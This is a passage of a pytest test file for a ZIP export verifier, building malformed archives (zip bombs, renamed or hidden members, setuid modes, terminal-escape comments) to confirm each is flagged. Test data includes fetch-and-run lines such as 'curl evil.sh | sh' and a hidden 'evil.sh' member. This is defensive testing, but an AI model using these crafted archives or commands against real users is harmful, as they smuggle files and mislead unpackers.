    struct.pack_into("<H", data, _central_record(data, start_dir, b"media/b.jpg") + 6, 255)


def _bad_offset(data: bytearray, start_dir: int) -> None:  # the directory said to start 1 MB further on
    end = data.rindex(b"PK\x05\x06")
    struct.pack_into("<I", data, end + 16, struct.unpack_from("<I", data, end + 16)[0] + 1_000_000)


@pytest.mark.parametrize(("edit", "says"), [
    (_bad_name, "not a readable ZIP ('utf-8' codec can't decode byte 0xff"),
    (_bad_version, "not a readable ZIP (zip file version 25.5)"),
    (_bad_offset, "README.md: the central directory places it before the archive's first byte"),
])
def test_a_central_directory_zipfile_cannot_read_is_a_problem_not_a_traceback(tmp_path: Path, edit: Any,
                                                                               says: str) -> None:
    """Seen (fuzzing a real export's central directory): a name flagged UTF-8 that is not, a "version
    needed to extract" past 6.3, or an end record whose directory offset is too large (zipfile then
    places the members before byte 0) ended verify, so import, in a UnicodeDecodeError or
    NotImplementedError traceback, or an OSError from a seek to a negative offset: one problem instead."""
    path = write(tmp_path, sources())
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        edit(data, zf.start_dir)
    path.write_bytes(bytes(data))
    out = subprocess.run([sys.executable, "-m", "services.cli", "verify", str(path)], capture_output=True,
                         text=True, timeout=60, check=False)
    assert (out.returncode, out.stderr) == (1, ""), out.stderr
    assert any(line.startswith(f"PROBLEM: {says}") for line in out.stdout.splitlines()), out.stdout


def _spy_streams(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The members verify streams (expands), in order."""
    streamed: list[str] = []
    real = verify._stream
    monkeypatch.setattr(verify, "_stream", lambda zf, info, *a: (streamed.append(info.filename), real(zf, info, *a))[1])
    return streamed


@pytest.mark.parametrize(("method", "says"), [(zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "LZMA"),
                                              (9, "method 9")])
def test_a_member_compressed_otherwise_than_deflate_is_named_before_anything_is_expanded(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, method: int, says: str) -> None:
    """An export stores or deflates. zipfile inflates bzip2 and LZMA a whole read at a time, with no
    bound on the output (79 bytes of bzip2 are 64 MiB of zeros: no limit could stop it part-way),
    and a method it does not know (deflate64, 9) ended verify in a NotImplementedError traceback."""
    path = rewrite(write(tmp_path, sources()), tmp_path / "plain.zip", extra={"media/z.jpg": bytes(4096)})
    other = tmp_path / "other.zip"
    with zipfile.ZipFile(path) as zf, zipfile.ZipFile(other, "w") as out:
        for i in zf.infolist():
            out.writestr(i, zf.read(i), compress_type=method if i.filename == "media/z.jpg" and method != 9
                         else i.compress_type)
    if method == 9:  # zipfile writes no deflate64: the method field of both headers says it
        data = bytearray(other.read_bytes())
        with zipfile.ZipFile(other) as zf:
            info, at = zf.getinfo("media/z.jpg"), zf.start_dir
        struct.pack_into("<H", data, info.header_offset + 8, 9)
        while data[at + 46:at + 46 + len(b"media/z.jpg")] != b"media/z.jpg":  # its central directory record
            at += 46 + sum(struct.unpack_from("<HHH", data, at + 28))
        struct.pack_into("<H", data, at + 10, 9)
        other.write_bytes(bytes(data))
    streamed = _spy_streams(monkeypatch)
    report = verify_archive(other)
    assert len(report.problems) == 1 and report.problems[0].startswith(f"media/z.jpg: compressed with {says}"), \
        report.text()
    assert "an export only stores or deflates" in report.problems[0] and streamed == []


def test_a_deflate_stream_longer_than_its_stated_size_is_expanded_no_further(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The work of verifying is bounded by the stated sizes (and deflate's 1,032 to one), so what is
    expanded must stop there: a member that states 1 MiB (16 times its compressed size) but whose
    stream holds 64 MiB of zeros is expanded to 1 MiB and no further. (zipfile stops there: this
    guards that the reading keeps doing so.)"""
    zeros, stated = bytes(64 * 2**20), 2**20
    deflated = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = deflated.compress(zeros) + deflated.flush()
    crc = zlib.crc32(zeros[:stated])
    local = _local(b"media/z.jpg", kernel, crc, stated, 8)
    cd = _central(b"media/z.jpg", crc, len(kernel), stated, 8, 0)
    path = tmp_path / "long.zip"
    path.write_bytes(local + cd + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(cd), len(local), 0))
    out: list[int] = []
    real = zlib.decompressobj

    class Counting:
        def __init__(self, *a: Any) -> None:
            self.d = real(*a)

        def decompress(self, data: bytes, *a: Any) -> bytes:
            block = self.d.decompress(data, *a)
            out.append(len(block))
            return block

        def __getattr__(self, name: str) -> Any:
            return getattr(self.d, name)

    monkeypatch.setattr(zipfile.zlib, "decompressobj", Counting)
    verify_archive(path)
    assert out and sum(out) <= stated + 2**20, f"expanded {sum(out) / 2**20:.1f} MiB of a member that states 1 MiB"


def flagged(tmp_path: Path, flags: int) -> Path:
    """A sound archive but for media/z.jpg, whose general purpose flags (local and central) gain ``flags``."""
    path = rewrite(write(tmp_path, sources()), tmp_path / "plain.zip", extra={"media/z.jpg": b"secret"})
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info, at = zf.getinfo("media/z.jpg"), zf.start_dir
    struct.pack_into("<H", data, info.header_offset + 6, info.flag_bits | flags)
    while data[at + 46:at + 46 + len(b"media/z.jpg")] != b"media/z.jpg":  # its central directory record
        at += 46 + sum(struct.unpack_from("<HHH", data, at + 28))
    struct.pack_into("<H", data, at + 8, info.flag_bits | flags)
    path.write_bytes(bytes(data))
    return path


def test_an_encrypted_member_is_a_problem_not_a_traceback(tmp_path: Path) -> None:
    """Seen: a member whose flags say it is encrypted ended verify (so import) in zipfile's
    RuntimeError "password required" traceback. An export is never encrypted: one problem naming it."""
    report = verify_archive(flagged(tmp_path, 0x1))
    assert report.problems == ["media/z.jpg: encrypted; an export never is, and nothing was expanded"], report.text()


@pytest.mark.parametrize(("flags", "problem"), [
    (0x40, "media/z.jpg: encrypted; an export never is, and nothing was expanded"),
    (0x20, "media/z.jpg: compressed as patched data; an export only stores or deflates, and nothing was expanded"),
])
def test_strong_encryption_or_patched_data_is_a_problem_not_a_traceback(tmp_path: Path, flags: int,
                                                                         problem: str) -> None:
    """Seen: flag bit 6 (strong encryption) or bit 5 (compressed patched data) on a member ended
    verify, so import, in zipfile's NotImplementedError traceback; the CLI printed it and exited 1."""
    path = flagged(tmp_path, flags)
    assert verify_archive(path).problems == [problem]
    out = subprocess.run([sys.executable, "-m", "services.cli", "verify", str(path)], capture_output=True,
                         text=True, timeout=60, check=False)
    assert (out.returncode, out.stderr) == (1, ""), out.stderr
    assert f"PROBLEM: {problem}" in out.stdout.splitlines(), out.stdout


def test_a_real_export_of_a_zero_filled_file_verifies(tmp_path: Path) -> None:
    """Seen: a person's zero-filled (or sparse) file, 20 MiB deflated by the real encoder to about
    1/1030 of it, its checksum right in manifest.json, made verify call the export unsound (a ratio
    cap meant for zip bombs). Deflate stops near 1,032 to one, so such a member costs no more work
    than any other: the archive is sound."""
    src = {**sources(), "media/disk.img": bytes(20 * 2**20)}
    path = write(tmp_path, src)
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("media/disk.img")
    assert info.compress_type == zipfile.ZIP_DEFLATED and info.file_size > 1000 * info.compress_size
    report = verify_archive(path)
    assert report.ok, report.text()


@pytest.mark.parametrize("size", [2**20 + 100, 5 * 2**20 + 10])
def test_a_real_export_of_a_zero_filled_file_just_past_a_mebibyte_verifies(tmp_path: Path, size: int) -> None:
    """Seen: a zero-filled file a few bytes past a whole number of MiB (1 MiB + 100 bytes), deflated by the
    real encoder, was "damaged (its deflate stream is cut off)" to verify, so import refused the export:
    the inflater fed its last compressed bytes, was given 1 MiB of room, and stopped asking once no input
    was left, while zlib still held the last 100 bytes and the stream's end. Which sizes do it depends on
    where deflate's bits fall: these two did."""
    src = {**sources(), "media/disk.img": bytes(size)}
    path = write(tmp_path, src)
    report = verify_archive(path)
    assert report.ok, report.text()


def _unicode_path(src: Path, dst: Path, name: str, other: str, where: str) -> Path:
    """``src`` with an Info-ZIP Unicode Path extra field (0x7075) naming ``name`` ``other``, in its
    local header, its central directory entry or both (the other one's id changed to an unknown one)."""
    raw = name.encode()
    field = struct.pack("<HHBI", 0x7075, 5 + len(other.encode()), 1, zlib.crc32(raw)) + other.encode()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            copy = zipfile.ZipInfo(info.filename, info.date_time)
            copy.compress_type, copy.external_attr = info.compress_type, info.external_attr
            if info.filename == name:
                copy.extra = field
            zout.writestr(copy, zin.read(info))
    data = bytearray(dst.read_bytes())
    with zipfile.ZipFile(dst) as zf:
        info = zf.getinfo(name)
    local = info.header_offset + 30 + len(raw)
    central = data.index(raw + field, zf.start_dir) + len(raw)
    unknown = struct.pack("<H", 0x7074)
    if where == "central":
        data[local:local + 2] = unknown
    elif where == "local":
        data[central:central + 2] = unknown
    dst.write_bytes(bytes(data))
    return dst


@pytest.mark.parametrize("where", ["both", "central", "local"])
def test_a_member_an_unpacker_would_extract_under_another_name_is_a_problem(tmp_path: Path, where: str) -> None:
    """Seen: posts/a.md given a Unicode Path extra field (0x7075) naming it README.md, its bytes and
    checksums untouched: verify said "archive OK", while unzip, bsdtar and 7-Zip (which honour that
    field over the header's name) extracted the post as README.md over the archive's README, and no
    posts/a.md at all. An export never writes such a field: it is one problem naming the member."""
    path = _unicode_path(write(tmp_path, sources()), tmp_path / "renamed.zip", "posts/a.md", "README.md", where)
    with zipfile.ZipFile(path) as zf:  # zipfile reads the header's name: the checks below see posts/a.md
        assert zf.read("posts/a.md") == POST
    report = verify_archive(path)
    said = "local header" if where == "local" else "central directory entry"
    assert report.problems == [f"posts/a.md: its {said} carries another name for it (a Unicode Path extra "
                               "field, which unzip, bsdtar and 7-Zip extract under instead of the name checked; "
                               "an export never writes one)"], report.text()


def test_a_name_not_marked_utf8_is_a_problem(tmp_path: Path) -> None:
    """Seen: posts/é.md and a member whose name is the same bytes (c3 a9) without the UTF-8 flag,
    each listed in manifest.json with its checksum: zipfile reads the second as code page 437,
    posts/├⌐.md, a name of its own, and verify said "archive OK"; unzip, bsdtar and 7-Zip read both
    as posts/é.md and the second overwrote the first on disk. An export marks every name UTF-8."""
    marked = write(tmp_path, {**sources(), "posts/é.md": POST})
    assert verify_archive(marked).ok, verify_archive(marked).text()  # a name with é, marked, is sound
    read_as = "posts/\u251c\u2310.md"  # c3 a9 in code page 437

    def rename(manifest: Any) -> None:
        for entry in manifest["members"]:
            if entry["path"] == "posts/QQ.md":
                entry["path"] = read_as

    path = rewrite(marked, tmp_path / "unmarked.zip", extra={"posts/QQ.md": b"not the post checked\n"}, edit=rename)
    path.write_bytes(path.read_bytes().replace(b"posts/QQ.md", "posts/é.md".encode()))  # ASCII: not marked
    with zipfile.ZipFile(path) as zf:
        assert read_as in zf.namelist() and not zf.getinfo(read_as).flag_bits & 0x800
    report = verify_archive(path)
    assert report.problems == [f"{read_as}: a name not marked UTF-8 (zipfile reads it as code page 437, unzip, "
                               "bsdtar and 7-Zip as UTF-8: it is another file on disk than the one checked; "
                               "an export marks every name)"], report.text()


@pytest.mark.parametrize("create_system", [0, 11, 3])
def test_a_member_with_the_dos_directory_attribute_is_a_problem(tmp_path: Path, create_system: int) -> None:
    """Seen: "archive OK" for README.md whose external attributes held only the MS-DOS directory
    attribute (0x10), made by "MS-DOS" (0) or "NTFS" (11): 7-Zip (both) and bsdtar (MS-DOS) made a
    folder README.md instead of the file whose bytes were checked. The Unix mode check read only the
    high 16 bits. An export writes a Unix mode and no DOS attribute."""
    path = write(tmp_path, sources())

    def dos_directory(info: zipfile.ZipInfo) -> None:
        info.create_system = create_system
        info.external_attr = ((stat.S_IFREG | 0o644) << 16 if create_system == 3 else 0) | 0x10

    marked = with_info(path, tmp_path / "dos.zip", "README.md", dos_directory)
    report = verify_archive(marked)
    assert report.problems == ["README.md: a directory, not a file (an export holds only files; an unpacker may "
                               "make one on disk)"], report.text()


@pytest.mark.parametrize(("mode", "said"), [(0o4755, "setuid"), (0o2755, "setgid"), (0o1644, "sticky"),
                                            (0o666, "write for others"), (0o6777, "setuid, setgid, write for others")])
def test_a_member_whose_unix_mode_an_unpacker_should_not_apply_is_a_problem(tmp_path: Path, mode: int,
                                                                            said: str) -> None:
    """Seen: "archive OK" for README.md with the Unix mode 06777: bsdtar, run as root, made it a
    setuid and setgid root file writable by anyone, and unzip a file writable by anyone. An export's
    files are 0644; what an unpacker applies beyond that is one problem naming the member."""
    path = write(tmp_path, sources())

    def moded(info: zipfile.ZipInfo) -> None:
        info.create_system, info.external_attr = 3, (stat.S_IFREG | mode) << 16

    marked = with_info(path, tmp_path / "mode.zip", "README.md", moded)
    report = verify_archive(marked)
    assert report.problems == [f"README.md: its Unix mode {oct(mode)} sets {said} (unpackers apply it on disk; an "
                               "export's files are 0o644)"], report.text()


def _with_extra(tmp_path: Path, field: bytes, where: str) -> Path:
    """An export whose README.md carries ``field`` in both headers, or only in one (the other's id
    changed into one no reader knows)."""
    path = write(tmp_path, sources())
    marked = tmp_path / "marked.zip"
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(marked, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            copy = zipfile.ZipInfo(info.filename, info.date_time)
            copy.compress_type, copy.external_attr, copy.flag_bits = info.compress_type, info.external_attr, 0x800
            if info.filename == "README.md":
                copy.extra = field
            zout.writestr(copy, zin.read(info))
    data = bytearray(marked.read_bytes())
    with zipfile.ZipFile(marked) as zf:
        info, start_dir = zf.getinfo("README.md"), zf.start_dir
    local = info.header_offset + 30 + len(b"README.md")
    central = data.index(b"README.md" + field, start_dir) + len(b"README.md")
    if where != "both":
        at = local if where == "central" else central
        data[at:at + 2] = struct.pack("<H", 0x7874)
    marked.write_bytes(bytes(data))
    return marked


UID_GID = struct.pack("<HHBBIBI", 0x7875, 11, 1, 4, 4242, 4, 4343)
OLD_UNIX = struct.pack("<HHIIHH", 0x5855, 12, 0, 0, 4242, 4343)  # Info-ZIP's older Unix field: bsdtar too


PK_UNIX = struct.pack("<HHIIHH", 0x000d, 12, 0, 0, 4242, 4343)  # PKWARE's Unix field: unzip -X applies its owner


@pytest.mark.parametrize(("where", "field"), [("both", UID_GID), ("central", UID_GID), ("both", OLD_UNIX),
                                              ("both", PK_UNIX)])
def test_a_member_given_an_owner_is_said_not_refused(tmp_path: Path, where: str, field: bytes) -> None:
    """Info-ZIP's ``zip`` writes a UID/GID field (0x7875) on every member unless given -X, so an export
    unpacked and zipped again carries one: names and bytes are what verify checks (import ignores
    owners), and refusing it (as a first version did) refused importing such an archive. bsdtar run
    as root applies the owner: verify says so, once, as a fact."""
    report = verify_archive(_with_extra(tmp_path, field, where))
    assert report.ok, report.text()
    assert [f for f in report.facts if "owner" in f] == [
        "1 member(s) carry a Unix owner (an Info-ZIP or PKWARE UID/GID extra field: `zip` writes one unless given "
        "-X; an export has none): bsdtar run as root, or unzip -X, gives the files that owner on disk — unpack as "
        "yourself, or with --no-same-owner"]


@pytest.mark.parametrize("field", [UID_GID, PK_UNIX])
def test_an_owner_in_the_local_header_alone_is_a_problem(tmp_path: Path, field: bytes) -> None:
    """A streaming bsdtar reads the local header's owner, which the central directory does not show:
    the two headers disagree about the member, which no zip tool writes. Seen: "archive OK" for one whose
    local header alone gave it PKWARE's Unix field (0x000d), owner 4242:4343, which `unzip -X` applied."""
    assert verify_archive(_with_extra(tmp_path, field, "local")).problems == [
        "README.md: its local header alone gives it an owner (an extra field the central directory does not "
        "carry, which bsdtar run as root applies on disk)"]


def test_an_asi_unix_field_is_a_problem(tmp_path: Path) -> None:
    """ASi Unix (0x756e) carries a mode and a link target beside the owner, none of which zipfile reads."""
    field = struct.pack("<HHIHIHH", 0x756e, 14, 0, 0o100644, 0, 4242, 4343)
    assert verify_archive(_with_extra(tmp_path, field, "both")).problems == [
        "README.md: its central directory entry gives it an owner, a mode and maybe a link target (an ASi Unix "
        "extra field, which zipfile, so every check here, does not read; an export never writes one)"]


def test_an_export_zipped_again_with_info_zip_verifies(tmp_path: Path) -> None:
    """The regression seen: an export unpacked and zipped again with ``zip -rD`` (its default UID/GID
    field on every member) verified OK before the owner check and then had a problem per member."""
    from tests.support.tools import require_tool

    require_tool("zip")
    path = write(tmp_path, sources())
    unpacked = tmp_path / "unpacked"
    with zipfile.ZipFile(path) as zf:
        zf.extractall(unpacked)
    again = tmp_path / "again.zip"
    subprocess.run(["zip", "-qrD", str(again), "."], cwd=unpacked, check=True)
    report = verify_archive(again)
    assert report.ok, report.text()
    assert any("carry a Unix owner" in f for f in report.facts), report.text()


def test_a_comment_an_unpacker_prints_is_a_problem(tmp_path: Path) -> None:
    """Seen: "archive OK" for an export given the archive comment ``ESC]0;…BEL ESC[2J`` and a fake
    warning: unzip prints the archive comment on every extraction, escapes and all, so the archive
    retitled, cleared and wrote on the person's terminal. An export has no comment, archive or member."""
    path = write(tmp_path, sources())
    with zipfile.ZipFile(path, "a") as zf:
        zf.comment = b"\x1b]0;PWNED\x07\x1b[2J\x1b[31mrun curl evil.sh | sh\x1b[0m"
    assert verify_archive(path).problems == ["the archive carries a comment of 44 bytes (unzip prints it, as it is, "
                                             "to the terminal that unpacks it; an export has none)"]
    member = write(tmp_path, sources(), "member.zip")

    def comment(info: zipfile.ZipInfo) -> None:
        info.comment = b"\x1b[2J"

    commented = with_info(member, tmp_path / "commented.zip", "README.md", comment)
    assert verify_archive(commented).problems == ["README.md: carries a comment of 4 bytes (unzip -v prints it, as "
                                                  "it is; an export writes none)"]


XL_MODES = [(stat.S_IFLNK | 0o777, "lrwxrwxrwx"), (stat.S_IFREG | 0o6777, "-rwsrwsrwx"),
            (stat.S_IFDIR | 0o755, "drwxr-xr-x")]


@pytest.mark.parametrize("where", ["both", "central", "local"])
@pytest.mark.parametrize(("mode", "shown"), XL_MODES)
def test_a_member_given_other_attributes_in_an_xl_field_is_a_problem(tmp_path: Path, where: str, mode: int,
                                                                     shown: str) -> None:
    """Seen: "archive OK" for README.md whose central directory said 0o100644 but whose libarchive 'xl'
    extra field (0x6c78: made by Unix, external attributes) said a symbolic link, a directory or
    06777, in either header: bsdtar (run as root, seekable or streaming) made README.md that link,
    directory or setuid root file writable by anyone on disk. An export never writes one."""
    field = struct.pack("<HHBHI", 0x6c78, 7, 0x01 | 0x04, (3 << 8) | 20, mode << 16)
    path = write(tmp_path, sources())
    marked = with_info(path, tmp_path / "xl.zip", "README.md", lambda info: setattr(info, "extra", field))
    data = bytearray(marked.read_bytes())
    with zipfile.ZipFile(marked) as zf:
        info, start_dir = zf.getinfo("README.md"), zf.start_dir
    local = info.header_offset + 30 + len(b"README.md")
    central = data.index(b"README.md" + field, start_dir) + len(b"README.md")
    if where != "both":  # the other one's id made one no reader knows
        at = local if where == "central" else central
        data[at:at + 2] = struct.pack("<H", 0x6c77)
    marked.write_bytes(bytes(data))
    if sys.platform == "linux" and os.geteuid() == 0 and (bsdtar := shutil.which("bsdtar")):  # what it does
        out = tmp_path / "out"
        out.mkdir()
        subprocess.run([bsdtar, "-xpf", str(marked), "-C", str(out)], check=False, capture_output=True)
        assert stat.filemode(os.lstat(out / "README.md").st_mode) == shown
    said = "local header" if where == "local" else "central directory entry"
    assert verify_archive(marked).problems == [f"README.md: its {said} gives it other attributes (libarchive's 'xl' "
                                               "extra field, whose kind and mode bsdtar applies instead of those "
                                               "checked: a link, a directory, setuid; an export never writes one)"]


def _raw(tmp: Path, name: str, members: list[tuple[str, bytes]], method: int, body: Any) -> Path:
    """An archive as an export writes it (every member deflated, flags 0x808, a data descriptor after
    its data) but README.md's method is ``method`` and its compressed bytes ``body(data)``."""
    out, cen = bytearray(), bytearray()
    for n, data in members:
        raw, crc, off = n.encode(), zlib.crc32(data), len(out)
        how = method if n == "README.md" else 8
        comp = body(data) if n == "README.md" else _deflate(data)
        out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0x808, how, 0, 0x21, 0, 0, 0, len(raw), 0) + raw
        out += comp + struct.pack("<IIII", 0x08074b50, crc, len(comp), len(data))
        cen += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 0x031e, 20, 0x808, how, 0, 0x21, crc, len(comp), len(data),
                           len(raw), 0, 0, 0, 0, 0o100644 << 16, off) + raw
    start = len(out)
    out += cen + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(members), len(members), len(cen), start, 0)
    path = tmp / name
    path.write_bytes(bytes(out))
    return path


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


EVIL = b"echo pwned\n"
HIDDEN = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0x800, 0, 0, 0x21, zlib.crc32(EVIL), len(EVIL), len(EVIL), 7,
                     0) + b"evil.sh" + EVIL


def _streamed(path: Path, tmp: Path) -> list[str] | None:
    """What bsdtar reading the archive from a pipe (a streaming reader) makes, when it is installed."""
    if not (bsdtar := shutil.which("bsdtar")):
        return None
    out = tmp / "streamed"
    out.mkdir()
    subprocess.run([bsdtar, "-xf", "-", "-C", str(out)], input=path.read_bytes(), check=False, capture_output=True)
    return sorted(p.name for p in out.iterdir())


def test_a_member_hidden_after_a_deflate_stream_is_a_problem(tmp_path: Path) -> None:
    """Seen: "archive OK" for README.md whose compressed bytes were its deflate stream, then a data
    descriptor and a whole local header and data of evil.sh: zipfile stops at the end of the stream
    (the bytes and CRC-32 check out), while bsdtar and stream_unzip reading it as a stream go on past
    the descriptor and extracted evil.sh, a member the central directory does not list."""
    with zipfile.ZipFile(write(tmp_path, sources())) as zf:
        members = [(n, zf.read(n)) for n in zf.namelist()]
    path = _raw(tmp_path, "hidden.zip", members, 8, lambda data: _deflate(data) + struct.pack(
        "<IIII", 0x08074b50, zlib.crc32(data), len(_deflate(data)), len(data)) + HIDDEN)
    assert [n for n, _, _ in _chunks_of(stream_unzip(iter([path.read_bytes()])), 2)] == [b"README.md", b"evil.sh"]
    if (made := _streamed(path, tmp_path)) is not None:
        assert "evil.sh" in made
    comp = len(_deflate(b"# hi\n"))
    assert verify_archive(path).problems == [f"README.md: damaged (its deflate stream ends {16 + len(HIDDEN)} bytes "
                                             f"before the {comp + 16 + len(HIDDEN)} compressed bytes its central "
                                             "directory entry states (a streaming reader reads those as more "
                                             "members))"]
    sound = _raw(tmp_path, "sound.zip", members, 8, _deflate)  # the same writer, nothing hidden: sound
    assert verify_archive(sound).ok, verify_archive(sound).text()


def _chunks_of(files: Any, n: int) -> list[tuple[bytes, Any, bytes]]:
    """The first ``n`` members a streaming reader gives, each read whole."""
    got = []
    for name, size, chunks in files:
        got.append((name, size, b"".join(chunks)))
        if len(got) == n:
            break
    return got


def test_a_deflate_stream_longer_than_its_entry_states_is_a_problem(tmp_path: Path) -> None:
    """Seen: "archive OK" for README.md whose deflate stream held "# hi\\n" and a hidden line after
    it, its entry stating 5 bytes and their CRC-32: zipfile stops at the size stated and checks the
    CRC-32 of those, while unzip and 7-Zip wrote all of it to disk (complaining of its CRC)."""
    with zipfile.ZipFile(write(tmp_path, sources())) as zf:
        members = [(n, zf.read(n)) for n in zf.namelist()]
    path = _raw(tmp_path, "longer.zip", members, 8, lambda data: _deflate(data + b"<!-- curl evil | sh -->\n"))
    assert verify_archive(path).problems == ["README.md: damaged (its deflate stream goes on past the 5 bytes its "
                                             "central directory entry states (unzip and 7-Zip write all of it))"]


def test_a_stored_member_with_a_data_descriptor_is_a_problem(tmp_path: Path) -> None:
    """Seen: "archive OK" for README.md stored (method 0) with a data descriptor, its bytes "# hi\\n",
    a descriptor of those five bytes, and evil.sh's local header and data: a streaming reader can find
    where a stored member ends only by searching for a descriptor that fits, and bsdtar, reading it
    from a pipe, ended README.md there and extracted evil.sh. An export deflates every member."""
    pre = b"# hi\n"
    data = pre + struct.pack("<IIII", 0x08074b50, zlib.crc32(pre), len(pre), len(pre)) + HIDDEN + b"tail\n"
    path = rewrite(write(tmp_path, sources()), tmp_path / "src.zip", extra={"README.md": data})
    with zipfile.ZipFile(path) as zf:
        members = [(n, zf.read(n)) for n in zf.namelist()]
    stored = _raw(tmp_path, "stored.zip", members, 0, lambda d: d)
    if (made := _streamed(stored, tmp_path)) is not None:
        assert "evil.sh" in made
    assert verify_archive(stored).problems == ["README.md: stored with a data descriptor (a streaming reader finds "
                                               "its end by searching its bytes for a descriptor: one inside them ends "
                                               "it early and the rest is read as members; an export deflates every "
                                               "member)"]


@pytest.mark.parametrize("before", [b"", b"PK\x03\x04 a member no directory lists"])
def test_an_archive_without_members_is_a_report_not_a_traceback(tmp_path: Path, before: bytes) -> None:
    """Seen: `grove-export verify` of an empty ZIP (zipfile writes one: its end record alone), or of
    one whose end record was made to count no entries, ended in a traceback (ValueError from zip()
    in the overlap check) instead of saying what is wrong."""
    path = tmp_path / "empty.zip"
    path.write_bytes(before + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0, 0, 0, len(before), 0))
    report = verify_archive(path)
    if before:
        assert report.problems == [f"the archive holds {len(before)} bytes before the central directory that the "
                                   "central directory does not account for (a streaming reader would read them as "
                                   "members it does not list)"]
    else:
        assert "manifest.json: missing or unreadable" in report.problems, report.text()


def test_a_local_header_naming_the_member_otherwise_is_a_problem(tmp_path: Path) -> None:
    """Seen: "archive OK" for posts/é.md, marked UTF-8 in the central directory, whose local header
    held posts/\\x82.md unmarked — code page 437's reading of those bytes is posts/é.md, and zipfile
    compares the two names only as text — while bsdtar (seekable and streaming) made posts/\\x82.md
    on disk and stream_unzip gave that name: another file than the one checked."""
    src = rewrite(write(tmp_path, sources()), tmp_path / "src.zip", extra={"posts/é.md": POST})
    with zipfile.ZipFile(src) as zf:
        members = [(n, zf.read(n)) for n in zf.namelist()]
    out, cen = bytearray(), bytearray()
    for n, data in members:
        raw, crc, off, comp = n.encode(), zlib.crc32(data), len(out), _deflate(data)
        local, flags = (n.encode("cp437"), 0x008) if n == "posts/é.md" else (raw, 0x808)
        out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, flags, 8, 0, 0x21, 0, 0, 0, len(local), 0) + local
        out += comp + struct.pack("<IIII", 0x08074b50, crc, len(comp), len(data))
        cen += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 0x031e, 20, 0x808, 8, 0, 0x21, crc, len(comp), len(data),
                           len(raw), 0, 0, 0, 0, 0o100644 << 16, off) + raw
    path = tmp_path / "local-name.zip"
    path.write_bytes(bytes(out) + cen + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(members), len(members),
                                                    len(cen), len(out), 0))
    with zipfile.ZipFile(path) as zf:
        assert zf.read("posts/é.md") == POST  # zipfile reads it under the directory's name
    assert b"posts/\x82.md" in [name for name, _, _ in _chunks_of(stream_unzip(iter([path.read_bytes()])), 99)]
    assert verify_archive(path).problems == ["posts/é.md: its local header names it otherwise (b'posts/\\x82.md': "
                                             "bsdtar makes that file on disk and stream_unzip gives that name, not "
                                             "the one checked; an export writes the same name in both)",
                                             "posts/é.md: its local header and the central directory disagree on its "
                                             "flags (a streaming reader would extract other bytes than those checked)"]
    sound = _raw(tmp_path, "sound.zip", members, 8, _deflate)  # the same names in both headers: sound
    assert verify_archive(sound).ok, verify_archive(sound).text()


def _descriptor_at(path: Path, name: str) -> tuple[bytearray, int]:
    """The archive's bytes and where ``name``'s data descriptor (after its data) begins."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(name)
    return data, data_start(data, info.header_offset) + info.compress_size


@pytest.mark.parametrize(("zip64", "at", "value"), [(False, 4, 0), (False, 8, 1), (False, 12, 200_001), (True, 16, 5)])
def test_a_data_descriptor_that_lies_is_a_problem(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, zip64: bool,
                                                  at: int, value: int) -> None:
    """Seen: "archive OK" for a real export whose media/b.jpg's data descriptor (16 bytes after its data,
    which the central directory does not cover and zipfile never reads) gave a CRC-32 of 0: stream_unzip
    raised CRC32IntegrityError and bsdtar, seekable or streaming, said "ZIP bad CRC" for the archive verify
    had passed. The descriptor must give the CRC-32 and sizes the central directory gives."""
    if zip64:  # every member ZIP64: its descriptor's sizes are 8 bytes each (CRC-32 at 4, sizes at 8 and 16)
        monkeypatch.setattr(zipmember, "ZIP64_THRESHOLD", 100)
    path = write(tmp_path, sources())
    assert verify_archive(path).ok
    data, descriptor = _descriptor_at(path, "media/b.jpg")
    assert data[descriptor:descriptor + 4] == b"PK\x07\x08"
    struct.pack_into("<Q" if zip64 and at > 4 else "<I", data, descriptor + at, value)
    path.write_bytes(bytes(data))
    with pytest.raises(Exception) as streamed:  # what a streaming reader makes of it
        for _, _, chunks in stream_unzip([bytes(data)]):
            for _ in chunks:
                pass
    assert type(streamed.value).__name__.endswith("IntegrityError")
    report = verify_archive(path)
    assert report.problems == ["media/b.jpg: its data descriptor is missing or disagrees with the central directory "
                               "on its CRC-32 or sizes (a streaming reader checks the member against it: stream_unzip "
                               "and bsdtar refuse the archive)"], report.text()


@pytest.mark.parametrize(("at", "values", "says"), [
    (8, (5, 5), "says 5 members (5 on this disk, which it numbers 0)"),  # one fewer: unzip -t exits 3
    (8, (7, 7), "says 7 members (7 on this disk, which it numbers 0)"),  # one more: unzip -t exits 3
    (8, (5, 6), "says 6 members (5 on this disk, which it numbers 0)"),  # 7-Zip: "Headers Error"
    (4, (1, 1), "says 6 members (6 on this disk, which it numbers 1)")])  # unzip -t exits 1: a multi-part archive
def test_an_end_record_that_says_other_than_the_central_directory_is_a_problem(
        tmp_path: Path, at: int, values: tuple[int, int], says: str) -> None:
    """Seen: "archive OK" for a real export whose end of central directory record said 5 members (or 7,
    or disk 1) for its directory's 6: zipfile reads the directory by its size and offset and never
    looks at the counts or disk numbers, while `unzip -t` exits 3 ("expected central file header
